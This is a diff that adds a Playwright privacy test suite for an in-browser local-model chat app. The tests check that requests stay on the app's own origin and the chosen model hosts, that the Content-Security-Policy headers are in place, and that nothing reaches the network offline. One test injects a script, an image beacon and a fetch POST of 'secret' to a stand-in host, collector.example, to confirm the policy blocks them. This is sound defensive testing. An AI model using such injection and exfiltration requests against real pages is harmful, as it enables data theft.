@@ -1,0 +1,206 @@
+// Privacy: the app talks to nothing but itself and the model host the user chose, the
+// Content-Security-Policy is on (in every page and in the served headers), and offline nothing
+// reaches the network at all.
+import { readdir } from 'node:fs/promises';
+import {
+	addCustomModel,
+	ask,
+	expect,
+	lastAnswer,
+	loadModel,
+	modelEntry,
+	openApp,
+	test,
+	type Page
+} from './fixtures';
+
+/** Requests that belong to the test harness, not to the app: the scripted engine's control channel. */
+const HARNESS = /\/__test-engine\//;
+
+/** Every request the page and its workers make, from now on. */
+function recordRequests(page: Page): string[] {
+	const urls: string[] = [];
+	page.context().on('request', (request) => {
+		if (!HARNESS.test(request.url())) urls.push(request.url());
+	});
+	return urls;
+}
+
+/** Collects the page's Content-Security-Policy violations (none may happen in normal use). */
+async function watchCsp(page: Page) {
+	await page.addInitScript(() => {
+		const seen: string[] = [];
+		(window as unknown as { __csp: string[] }).__csp = seen;
+		document.addEventListener('securitypolicyviolation', (e) =>
+			seen.push(`${e.effectiveDirective} ${e.blockedURI}`)
+		);
+	});
+	return () => page.evaluate(() => (window as unknown as { __csp: string[] }).__csp);
+}
+
+const origins = (urls: string[]) => [...new Set(urls.map((u) => new URL(u).origin))].sort();
+
+test('chatting, comparing and browsing every page request nothing but the app itself, with no CSP violation', async ({
+	page,
+	testEngine
+}) => {
+	testEngine.script({ load: { steps: 2, stepMs: 10 }, chat: { tokens: ['Private', ' answer.'] } });
+	const violations = await watchCsp(page);
+	const requests = recordRequests(page);
+
+	await openApp(page);
+	await loadModel(page);
+	await ask(page, 'My blood test results are private');
+	await expect(await lastAnswer(page)).toContainText('Private answer.');
+
+	await page.getByRole('link', { name: 'Compare' }).click();
+	await page.getByTestId('model-slot-0').selectOption('SmolLM2-360M-Instruct-q4f32_1-MLC');
+	await page.getByTestId('model-slot-1').selectOption('Qwen2.5-0.5B-Instruct-q4f32_1-MLC');
+	await page.getByTestId('prompt').fill('Which is better?');
+	await page.getByTestId('run').click();
+	await expect(page.getByTestId('pane-stats')).toHaveCount(2);
+
+	await page.getByRole('link', { name: 'Models' }).click();
+	await expect(page.getByTestId('model-entry').first()).toBeVisible();
+	await page.getByRole('link', { name: 'Device' }).click();
+	await expect(page.getByTestId('device-panel')).toBeVisible();
+	await page.reload();
+	await expect(page.locator('html[data-hydrated]')).toBeAttached();
+
+	expect(requests.length).toBeGreaterThan(5);
+	expect(origins(requests)).toEqual([new URL(page.url()).origin]);
+	expect(await violations()).toEqual([]);
+});
+
+test('a model download goes only to the host the user chose', async ({ page, modelServer }) => {
+	const model = modelServer.addModel('Private-q4f32_1-MLC');
+	const violations = await watchCsp(page);
+	await openApp(page, '/models/');
+	const requests = recordRequests(page);
+	await addCustomModel(page, model);
+	const entry = modelEntry(page, model.modelId);
+	await entry.getByRole('button', { name: 'Download' }).click();
+	await expect(entry.getByTestId('ready-offline')).toBeVisible();
+
+	const chosen = new URL(model.baseUrl).origin;
+	expect(origins(requests)).toContain(chosen);
+	for (const origin of origins(requests))
+		expect([chosen, new URL(page.url()).origin]).toContain(origin);
+	expect(await violations()).toEqual([]);
+});
+
+test('a custom model on a host this build does not allow is refused, saying how to allow it', async ({
+	page
+}) => {
+	const requests = recordRequests(page);
+	await openApp(page, '/models/');
+	await page
+		.getByTestId('custom-base-url')
+		.fill('https://models.example.org/org/Tiny-q4f32_1-MLC/resolve/main/');
+	await page.getByTestId('custom-library-url').fill('https://models.example.org/tiny.wasm');
+	await page.getByTestId('custom-add').click();
+	const error = page.getByTestId('custom-error');
+	await expect(error).toContainText('https://models.example.org is blocked');
+	await expect(error).toContainText('LANTERN_MODEL_HOSTS');
+	await expect(error).toContainText('huggingface.co');
+	expect(requests.filter((u) => u.includes('example.org'))).toEqual([]);
+	await expect(page.getByTestId('custom-model')).toHaveCount(0);
+});
+
+test('the Content-Security-Policy is on: injected scripts do not run and other hosts cannot be reached', async ({
+	page,
+	context
+}) => {
+	let reachedOutside = false;
+	await context.route('https://collector.example/**', (route) => {
+		reachedOutside = true;
+		return route.fulfill({ body: 'ok' });
+	});
+	const violations = await watchCsp(page);
+	const response = await page.goto('/');
+	await expect(page.locator('html[data-hydrated]')).toBeAttached();
+
+	// The policy is in the page (for any static host) and in the headers (for hosts that read
+	// _headers; the test server does).
+	const meta = await page
+		.locator('meta[http-equiv="content-security-policy"]')
+		.getAttribute('content');
+	expect(meta).toContain("script-src 'self' 'wasm-unsafe-eval' 'sha256-");
+	expect(meta).not.toContain('unsafe-inline');
+	expect(response?.headers()['content-security-policy']).toContain("frame-ancestors 'none'");
+
+	const outcome = await page.evaluate(async () => {
+		const w = window as unknown as { __ran?: boolean };
+		const script = document.createElement('script');
+		script.textContent = 'window.__ran = true';
+		document.body.append(script);
+		const img = document.createElement('img');
+		img.src = 'https://collector.example/pixel.png';
+		document.body.append(img);
+		const fetched = await fetch('https://collector.example/leak', {
+			method: 'POST',
+			body: 'secret'
+		}).then(
+			() => 'sent',
+			(e: Error) => e.name
+		);
+		return { ran: w.__ran === true, fetched };
+	});
+	expect(outcome).toEqual({ ran: false, fetched: 'TypeError' });
+	await expect
+		.poll(violations)
+		.toEqual(
+			expect.arrayContaining([
+				'script-src-elem inline',
+				'img-src https://collector.example/pixel.png',
+				'connect-src https://collector.example/leak'
+			])
+		);
+	expect(reachedOutside).toBe(false);
+});
+
+test('the engine worker is served with the same policy, so WebLLM too can reach only the model hosts', async ({
+	page
+}) => {
+	const workers = await readdir('build/_app/immutable/workers');
+	const worker = workers.find((name) => /^engine\.worker-.*\.js$/.test(name));
+	expect(worker).toBeDefined();
+	const response = await page.request.get(`/_app/immutable/workers/${worker}`);
+	const policy = response.headers()['content-security-policy'] ?? '';
+	expect(policy).toContain("'wasm-unsafe-eval'");
+	expect(policy).toMatch(/connect-src 'self' https:\/\/huggingface\.co .*https:\/\/\*\.hf\.co/);
+	expect(policy).not.toMatch(/unsafe-inline|unsafe-eval'(?<!wasm-unsafe-eval')/);
+});
+
+test.describe('offline', () => {
+	test.use({ serviceWorkers: 'allow' });
+
+	test('after one visit, browsing every page offline sends nothing to the network', async ({
+		page,
+		context
+	}) => {
+		await openApp(page);
+		await expect(page.getByTestId('offline-ready')).toBeVisible({ timeout: 20_000 });
+		await expect.poll(() => page.evaluate(() => !!navigator.serviceWorker.controller)).toBe(true);
+
+		await context.setOffline(true);
+		const reachedNetwork: string[] = [];
+		context.on('requestfinished', async (request) => {
+			const response = await request.response();
+			if (response && !response.fromServiceWorker()) reachedNetwork.push(request.url());
+		});
+		context.on('requestfailed', (request) => reachedNetwork.push(request.url()));
+		await page.reload();
+		await expect(page.locator('html[data-hydrated]')).toBeAttached();
+		for (const [name, ready] of [
+			['Models', 'model-entry'],
+			['Compare', 'compare-setup'],
+			['Device', 'device-panel'],
+			['Chat', 'composer']
+		] as const) {
+			await page.getByRole('link', { name, exact: true }).click();
+			await expect(page.getByTestId(ready).first()).toBeVisible();
+		}
+		expect(reachedNetwork).toEqual([]);
+	});
+});
